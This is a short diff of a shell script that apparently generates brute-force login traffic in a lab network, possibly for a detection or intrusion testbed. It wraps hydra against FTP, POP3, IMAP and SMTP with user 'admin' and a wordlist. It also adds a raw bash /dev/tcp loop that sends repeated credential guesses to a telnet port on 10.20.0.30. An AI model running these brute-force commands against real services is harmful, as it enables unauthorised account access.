@@ -13,7 +13,7 @@ words() {
 hydra_try() { local count=$1 tasks=$2; shift 2; (cd "$LAB_DIR" && on 45 hydra -I -t "$tasks" -w 5 -l admin -P "$(words "$count")" "$@"); }
 
 tool hydra_ftp brute-force a1 $FILES; hydra_ftp() { hydra_try 60 6 ftp://$FILES; }
-tool hydra_telnet brute-force a2 $FILES; hydra_telnet() { hydra_try 60 4 telnet://$FILES; }
+tool telnet_loop brute-force a2 $FILES; telnet_loop() { on 60 bash -c 'for i in $(seq 20); do (exec 3<>/dev/tcp/10.20.0.30/23; sleep 0.2; printf "admin\r\n" >&3; sleep 0.2; printf "word$0\r\n" >&3; timeout 3 head -c 60 <&3 >/dev/null) & [ $((i % 4)) != 0 ] || wait; done; wait'; }
 tool hydra_pop3 brute-force a1 $FILES; hydra_pop3() { hydra_try 60 6 pop3://$FILES; }
 tool hydra_imap brute-force a3 $FILES; hydra_imap() { hydra_try 60 6 imap://$FILES; }
 tool hydra_smtp brute-force a1 $FILES; hydra_smtp() { hydra_try 60 4 smtp://$FILES; }
